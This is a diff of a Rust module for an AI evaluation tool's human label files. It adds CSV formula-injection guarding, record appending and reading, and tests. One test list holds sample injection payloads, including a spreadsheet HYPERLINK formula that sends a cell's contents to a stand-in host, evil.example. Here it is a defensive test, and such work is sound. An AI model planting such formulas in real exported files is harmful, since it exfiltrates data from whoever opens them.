@@ -1,6 +1,14 @@
 //! Label files: people's verdicts on judged items, read by `gauntlet judge calibrate`
-//! ([`parse_labels`] into a [`LabelSet`]) and written, unlabelled, by `gauntlet judge sample`
-//! ([`write_items`]).
+//! ([`parse_labels`] into a [`LabelSet`]), written, unlabelled, by `gauntlet judge sample`
+//! ([`write_items`]), and written one [`LabelRecord`] at a time by the labelling mode of
+//! `gauntlet view` ([`append_record`], read back by [`read_records`]). Both readers go
+//! through one row reader, so a file reads the same for the viewer and the calibration.
+//!
+//! A CSV cell that a spreadsheet would take for a formula (it begins with `=`, `+`, `-`,
+//! `@`, a tab or a carriage return, after any single quotes) is written with a single quote
+//! in front ([`guard_cell`], OWASP's advice against CSV injection), since model output is
+//! untrusted; the readers take that quote off again ([`unguard_cell`]), so what was written
+//! reads back as it was. docs/labels.md is the specification.
 //!
 //! The format is JSON lines or CSV with these keys or columns: `case_id`, `check_id`,
 //! `input`, `output`, `reference` (optional) and `label`. `label` is `pass` or `fail` for a
@@ -12,9 +20,13 @@
 //! the same label twice is a duplicate and counts once; different labels are a conflict and
 //! the item is left out, since nobody knows which label is right.
 
+use std::borrow::Cow;
 use std::collections::{BTreeMap, HashMap};
+use std::io::Write;
+use std::path::Path;
 
 use gauntlet_core::judges::JudgeScale;
+use serde::{Deserialize, Serialize};
 
 /// Label-file formats.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -106,6 +118,41 @@ pub enum LabelError {
         "the label file has no `{0}` column (columns: case_id, check_id, input, output, reference, label)"
     )]
     MissingColumn(&'static str),
+    /// The file could not be read.
+    #[error("failed to read `{path}`: {message}")]
+    Read {
+        /// The file.
+        path: String,
+        /// Why.
+        message: String,
+    },
+}
+
+/// What makes a spreadsheet read a cell as a formula when the cell begins with it.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether a cell, past any leading single quotes, begins like a formula.
+fn formula_like(cell: &str) -> bool {
+    cell.trim_start_matches('\'').starts_with(FORMULA_START)
+}
+
+/// A CSV cell as written: a single quote in front when it would begin like a formula
+/// (counting single quotes it already begins with, so that [`unguard_cell`] can tell a
+/// quote it must take off from one that was there).
+pub fn guard_cell(cell: &str) -> Cow<'_, str> {
+    if formula_like(cell) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// A CSV cell as read: the quote [`guard_cell`] put in front taken off.
+pub fn unguard_cell(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if formula_like(rest) => rest,
+        _ => cell,
+    }
 }
 
 /// Reads a label value on a scale.
@@ -190,7 +237,7 @@ fn read_rows(text: &str, format: LabelFormat) -> Result<Vec<Row>, LabelError> {
                     values: headers
                         .iter()
                         .zip(rec.iter())
-                        .map(|(h, v)| (h.to_owned(), v.to_owned()))
+                        .map(|(h, v)| (h.to_owned(), unguard_cell(v).to_owned()))
                         .collect(),
                 });
             }
@@ -324,23 +371,280 @@ pub fn write_items(items: &[ExportItem], format: LabelFormat) -> String {
             let mut w = csv::Writer::from_writer(Vec::new());
             let _ = w.write_record(COLUMNS);
             for it in items {
-                let _ = w.write_record([
-                    it.case_id.as_str(),
-                    it.check_id.as_str(),
-                    it.input.as_str(),
-                    it.output.as_str(),
-                    it.reference.as_deref().unwrap_or(""),
-                    "",
-                ]);
+                let _ = w.write_record(
+                    [
+                        it.case_id.as_str(),
+                        it.check_id.as_str(),
+                        it.input.as_str(),
+                        it.output.as_str(),
+                        it.reference.as_deref().unwrap_or(""),
+                        "",
+                    ]
+                    .map(guard_cell)
+                    .iter()
+                    .map(|c| c.as_bytes()),
+                );
             }
             String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
         }
     }
 }
 
+/// A person's judgement of an output, as the viewer records it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Label {
+    /// The output meets the check.
+    Pass,
+    /// It does not.
+    Fail,
+}
+
+impl Label {
+    /// The word written in the file.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Label::Pass => "pass",
+            Label::Fail => "fail",
+        }
+    }
+}
+
+/// One record of a labels file as the viewer writes it: one person's judgement of one
+/// output against one check.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct LabelRecord {
+    /// What the agent was given: the user's message, or for several turns the earlier
+    /// turns as `USER: ...` / `ASSISTANT: ...` lines followed by the last user message.
+    pub input: String,
+    /// What the agent answered last.
+    pub output: String,
+    /// What the check compares against: a judge's rubric, or the check as written in the
+    /// suite (JSON). Empty when the suite could not be read.
+    pub reference: String,
+    /// The judgement.
+    pub label: Label,
+    /// The case id.
+    pub case_id: String,
+    /// The check's kind as in report.json (`judge`, `refusal`, `contains`, ...).
+    pub check_id: String,
+    /// The run the output came from.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub run_id: Option<String>,
+    /// The trial, from 0.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub trial: Option<u32>,
+    /// The check's name in the suite, when it has one.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub check_label: Option<String>,
+    /// When it was labelled (RFC 3339).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub labeled_at: Option<String>,
+}
+
+/// The columns of a record, in the order the viewer writes them.
+pub const RECORD_COLUMNS: [&str; 10] = [
+    "input",
+    "output",
+    "reference",
+    "label",
+    "case_id",
+    "check_id",
+    "run_id",
+    "trial",
+    "check_label",
+    "labeled_at",
+];
+
+/// Appends one record (creating the file, and a CSV file's header, when needed). Every
+/// optional CSV column is written, empty when unknown, so that rows line up.
+pub fn append_record(path: &Path, rec: &LabelRecord) -> std::io::Result<()> {
+    let fresh = std::fs::metadata(path).map_or(true, |m| m.len() == 0);
+    let mut file = std::fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(path)?;
+    if LabelFormat::of_path(path) == LabelFormat::Csv {
+        let mut w = csv::WriterBuilder::new()
+            .has_headers(false)
+            .from_writer(Vec::new());
+        if fresh {
+            w.write_record(RECORD_COLUMNS)?;
+        }
+        let trial = rec.trial.map(|t| t.to_string()).unwrap_or_default();
+        let cells = [
+            rec.input.as_str(),
+            &rec.output,
+            &rec.reference,
+            rec.label.as_str(),
+            &rec.case_id,
+            &rec.check_id,
+            rec.run_id.as_deref().unwrap_or(""),
+            &trial,
+            rec.check_label.as_deref().unwrap_or(""),
+            rec.labeled_at.as_deref().unwrap_or(""),
+        ];
+        w.write_record(cells.map(guard_cell).iter().map(|c| c.as_bytes()))?;
+        let bytes = w.into_inner().map_err(|e| e.into_error())?;
+        file.write_all(&bytes)
+    } else {
+        let mut line = serde_json::to_vec(rec).map_err(std::io::Error::other)?;
+        line.push(b'\n');
+        file.write_all(&line)
+    }
+}
+
+/// Reads every record of a labels file the viewer writes; a missing file has none. Rows go
+/// through the same reader as [`parse_labels`]; `input`, `output` and `label` (`pass` or
+/// `fail`) are required, any other column may be missing or empty.
+pub fn read_records(path: &Path) -> Result<Vec<LabelRecord>, LabelError> {
+    let text = match std::fs::read_to_string(path) {
+        Ok(t) => t,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
+        Err(e) => {
+            return Err(LabelError::Read {
+                path: path.display().to_string(),
+                message: e.to_string(),
+            });
+        }
+    };
+    read_rows(&text, LabelFormat::of_path(path))?
+        .into_iter()
+        .map(record_of)
+        .collect()
+}
+
+/// A row as a record.
+fn record_of(mut row: Row) -> Result<LabelRecord, LabelError> {
+    let line = row.line;
+    let mut required = |k: &str| {
+        row.values.remove(k).ok_or_else(|| LabelError::Row {
+            line,
+            message: format!("no `{k}`"),
+        })
+    };
+    let input = required("input")?;
+    let output = required("output")?;
+    let label = match parse_label(&required("label")?, JudgeScale::Binary) {
+        Ok(1) => Label::Pass,
+        Ok(_) => Label::Fail,
+        Err(message) => return Err(LabelError::Row { line, message }),
+    };
+    let mut take = |k: &str| row.values.remove(k).filter(|v| !v.is_empty());
+    let trial = take("trial")
+        .map(|t| {
+            t.parse().map_err(|_| LabelError::Row {
+                line,
+                message: format!("bad trial `{t}`"),
+            })
+        })
+        .transpose()?;
+    Ok(LabelRecord {
+        input,
+        output,
+        reference: take("reference").unwrap_or_default(),
+        label,
+        case_id: take("case_id").unwrap_or_default(),
+        check_id: take("check_id").unwrap_or_default(),
+        run_id: take("run_id"),
+        trial,
+        check_label: take("check_label"),
+        labeled_at: take("labeled_at"),
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn rec(label: Label) -> LabelRecord {
+        LabelRecord {
+            input: "Refund order A-1, please.\nThanks, \"Bob\"".into(),
+            output: "Done, refunded.".into(),
+            reference: "{\"contains\":\"refund\"}".into(),
+            label,
+            case_id: "refund-small".into(),
+            check_id: "contains".into(),
+            run_id: Some("20260101T000000Z-abcd".into()),
+            trial: Some(1),
+            check_label: None,
+            labeled_at: Some("2026-01-01T00:00:00Z".into()),
+        }
+    }
+
+    #[test]
+    fn both_formats_round_trip() {
+        let dir = tempfile::tempdir().unwrap();
+        for name in ["labels.jsonl", "labels.csv"] {
+            let p = dir.path().join(name);
+            append_record(&p, &rec(Label::Pass)).unwrap();
+            append_record(&p, &rec(Label::Fail)).unwrap();
+            let back = read_records(&p).unwrap();
+            assert_eq!(back, vec![rec(Label::Pass), rec(Label::Fail)], "{name}");
+        }
+        let csv = std::fs::read_to_string(dir.path().join("labels.csv")).unwrap();
+        assert!(csv.starts_with("input,output,reference,label,case_id,check_id,"));
+        assert_eq!(csv.matches("input,output").count(), 1, "one header");
+    }
+
+    /// Texts a spreadsheet would run as formulas, and texts that only look close.
+    const FORMULAS: [&str; 10] = [
+        "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\t=1",
+        "\r=1",
+        "'=already quoted",
+        "''+twice",
+        "'plain quote",
+        "a=b",
+    ];
+
+    #[test]
+    fn a_formula_cell_is_written_inert_and_reads_back_as_it_was() {
+        let dir = tempfile::tempdir().unwrap();
+        let p = dir.path().join("labels.csv");
+        for f in FORMULAS {
+            let mut r = rec(Label::Pass);
+            r.output = f.to_owned();
+            r.case_id = f.to_owned();
+            append_record(&p, &r).unwrap();
+        }
+        // Every cell a spreadsheet would evaluate begins with a quote in the file.
+        let text = std::fs::read_to_string(&p).unwrap();
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        for row in reader.records() {
+            for cell in row.unwrap().iter() {
+                assert!(!cell.starts_with(FORMULA_START), "live formula: {cell:?}");
+            }
+        }
+        let back = read_records(&p).unwrap();
+        let outputs: Vec<&str> = back.iter().map(|r| r.output.as_str()).collect();
+        assert_eq!(outputs, FORMULAS);
+        assert!(back.iter().all(|r| r.output == r.case_id));
+        // The calibration's reader sees the same text.
+        let set = parse_labels(&text, LabelFormat::Csv, "contains", JudgeScale::Binary).unwrap();
+        let inputs: Vec<&str> = set.items.iter().map(|i| i.output.as_str()).collect();
+        assert_eq!(inputs, FORMULAS);
+        // Exported items are guarded too.
+        let items = vec![ExportItem {
+            case_id: "c".into(),
+            check_id: "tone".into(),
+            input: "=1+1".into(),
+            output: "@cmd".into(),
+            reference: Some("-x".into()),
+        }];
+        let text = write_items(&items, LabelFormat::Csv);
+        assert!(text.contains("c,tone,'=1+1,'@cmd,'-x,"), "{text}");
+        let filled = text.replace(",\n", ",pass\n");
+        let s = parse_labels(&filled, LabelFormat::Csv, "tone", JudgeScale::Binary).unwrap();
+        assert_eq!(
+            (s.items[0].input.as_str(), s.items[0].output.as_str()),
+            ("=1+1", "@cmd")
+        );
+        assert_eq!(s.items[0].reference.as_deref(), Some("-x"));
+    }
 
     #[test]
     fn csv_and_jsonl_read_alike() {
